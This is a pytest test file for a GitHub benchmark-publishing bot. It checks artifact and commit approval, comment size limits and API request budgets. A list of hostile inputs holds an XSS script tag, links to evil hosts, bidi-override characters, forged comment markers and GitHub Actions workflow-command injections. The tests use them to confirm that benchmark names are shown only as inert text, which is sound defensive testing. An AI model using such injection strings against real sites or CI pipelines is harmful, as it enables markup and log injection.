def test_a_named_run_that_is_not_ours_is_ignored(forge, change):
    approve(forge)
    [run] = forge.runs
    call = forge.dispatch_event("publish-results.yml")
    forge.repo.add_artifact("lance-bench-pull-request", make_zip(files_of(commit=forge.head)), run_id=run["id"])
    forge.repo.finish_run(run)
    run.update(change)
    said = forge.done(forge.bot("finish", call, "--run-id", run["id"]))
    assert said["action"] == "ignored"
    assert forge.store.tables() == {} and forge.checks[0]["conclusion"] is None


def test_which_machine_measured_is_never_taken_from_the_artifact(forge):
    approve(forge)
    run = forge.runs[0]
    forge.repo.add_artifact("lance-bench-pull-request", make_zip(files_of(commit=forge.head)), run_id=run["id"])
    forge.repo.finish_run(run)
    env = {k: v for k, v in forge.run_event(run).items() if k != "LANCE_BENCH_TESTBED"}
    assert "--testbed-name" in error_line(forge.bot("finish", env), 129)
    assert forge.checks[0]["conclusion"] is None, "it is ours to set right: the job can be run again"
    forge.store.published(forge.store.file("main.json", criterion_lines(["count"])), bed="the-only-one")
    assert forge.done(forge.bot("finish", env))["action"] == "published"
    assert forge.store.query("select distinct test_bed['name'] as b from results_pr") == [{"b": "the-only-one"}]


# --- publish --artifact, by the approval ------------------------------------------------------------


def publish_by_check(forge, number, *words, commit=None):
    artifact = forge.store.file("results.zip", make_zip(files_of(commit=commit or forge.head)))
    return forge.store.run("publish", "--artifact", artifact, "--check-run", number, "--testbed-name", "metal", *words,
                           env=forge.server.env())


def test_an_artifact_is_published_for_the_commit_of_the_check_run(forge):
    approve(forge)
    done = publish_by_check(forge, forge.checks[0]["id"], "--format", "json")
    assert done.returncode == 0, done.stderr
    assert json.loads(done.stdout)["commit"] == forge.head
    (row,) = forge.store.query("select distinct dut['timestamp'] as t from results_pr")
    assert row["t"] == forge.repo.commits[forge.head]["commit_s"], "its time is GitHub's"


def test_an_artifact_of_another_commit_than_the_check_runs_is_refused(forge):
    approve(forge)
    assert "nothing is published" in error_line(publish_by_check(forge, forge.checks[0]["id"], commit=forge.old), 1)
    assert forge.store.tables() == {}


@pytest.mark.parametrize("change, word", [
    ({"external_id": "lance-bench/1/7/{old}/1/all"}, "no approval"), ({"external_id": "{head}"}, "no approval"),
    ({"external_id": ""}, "no approval"), ({"head_sha": "{old}"}, "no approval"),
])
def test_a_check_run_that_is_no_approval_publishes_nothing(forge, change, word):
    approve(forge)
    forge.checks[0].update({k: v.format(head=forge.head, old=forge.old) for k, v in change.items()})
    for commit in (forge.head, forge.old):
        assert word in error_line(publish_by_check(forge, forge.checks[0]["id"], commit=commit), 1)
    assert forge.store.tables() == {}


def test_a_check_run_and_a_commit_that_contradict_are_refused(forge):
    approve(forge)
    done = publish_by_check(forge, forge.checks[0]["id"], "--expect-commit", forge.old, commit=forge.old)
    assert f"approves {forge.head}, and not {forge.old}" in error_line(done, 1)
    assert "4711" in error_line(publish_by_check(forge, 4711), 1)


# --- what foreign names may do in a comment --------------------------------------------------------

NASTY = ["@everyone `x` | y", "</details><script>alert(1)</script>", "[a](http://evil)", "\u202eevil\u200b",
         "<!-- bench-bot:answer -->", "a\nb\n::error::c\n<!-- bench-bot:end -->\n", "http://evil.example", "x" * 5000,
         "#1 GH-2 owner/quick#3", "::set-output name=a::b"]


def test_names_are_shown_as_text_and_nothing_else(forge):
    approve(forge)
    done = forge.finish(forge.runs[0], make_zip(files_of(NASTY, commit=forge.head)))
    assert forge.done(done)["results"] == len(NASTY)
    rows = [line for line in forge.text.splitlines() if line.startswith("| `") and "`metal`" not in line]
    assert len(rows) == len(NASTY)
    for row in rows:
        name = re.fullmatch(r"\| `((?:[^`|]|\\\|)*)` \| [^|]* \| cannot tell: [^|]* \|", row)
        assert name, row
        assert not re.search(r"(?<!\\)\|", name[1]) and "\u202e" not in row and "\u200b" not in row
        assert len(row.encode()) < 300
    outside = re.sub(r"`[^`\n]*`", "", forge.text)
    assert outside.count("</details") == outside.count("<details>") == 2, "the report's own"
    for word in ("@everyone", "<script", "evil", "::error"):
        assert word not in outside, word
    assert "\n::" not in done.stdout + done.stderr
    text = forge.text
    forge.say("@bench-bot help")
    assert all(row in forge.text for row in rows), "a name does not end the section it stands in"
    assert text.split("bench-bot:result")[1].split("<!-- bench-bot:end")[0].strip() in forge.text


def test_a_comment_stays_within_githubs_limit(forge):
    names = [f"{n:05}, a benchmark whose name is long: {'x' * 140}" for n in range(350)]
    approve(forge)
    forge.done(forge.finish(forge.runs[0], make_zip(files_of(names, commit=forge.head))))
    assert len(forge.text) <= 65536 and re.search(r"no room for more: \d+ of 350 no history", forge.text)
    assert forge.text.count("<details>") == forge.text.count("</details>") > 0, "no table is cut in its middle"
    assert forge.text.rstrip().splitlines()[-1].startswith("<!-- bench-bot"), "its marks are whole"
    forge.say("@bench-bot status")
    assert len(forge.text) <= 65536 and len(forge.ours) == 1


def test_a_reason_of_foreign_code_is_shown_as_text(forge):
    files = files_of(commit=forge.head, outcome="failed", reason="@team <b>`broke`</b>\n## heading\n::error::x")
    files = {"manifest.json": files["manifest.json"]}
    approve(forge)
    forge.done(forge.finish(forge.runs[0], make_zip(files)))
    assert "`@team <b>'broke'</b> ## heading ::error::x`" in forge.text
    assert json.loads(files["manifest.json"])["commit"] == forge.head


def test_a_pull_request_with_many_comments_is_not_read_again_and_again(forge):
    """GitHub gives a workflow's token 1,000 requests an hour."""
    for number in range(1500):
        forge.repo.add_comment(7, f"comment {number}", "reader")

    def pages(body):
        before = len(forge.server.requests)
        assert forge.say(body)["action"] in ("dispatched", "answered")
        return sum(request.method == "GET" and request.path.endswith("/issues/7/comments")
                   for request in forge.server.requests[before:])
    assert pages(f"@bench-bot benchmark {forge.head}") <= 2 * 16, "looked for, and once more before it is made"
    assert len(forge.ours) == 1
    for number in range(1500):
        forge.repo.add_comment(7, f"later {number}", "reader")
    assert pages("@bench-bot status") <= 16, "not beyond the bot's own"
    assert len(forge.ours) == 1


def test_a_comment_that_was_deleted_while_the_bot_works_is_made_anew(forge):
    forge.say(f"@bench-bot benchmark {forge.head}")
    (ours,) = forge.ours
    forge.server.fail(404, "Not Found", method="PATCH", path="/issues/comments/")
    forge.say("@bench-bot help")
    assert len(forge.ours) == 2 and forge.ours[-1]["id"] != ours["id"]
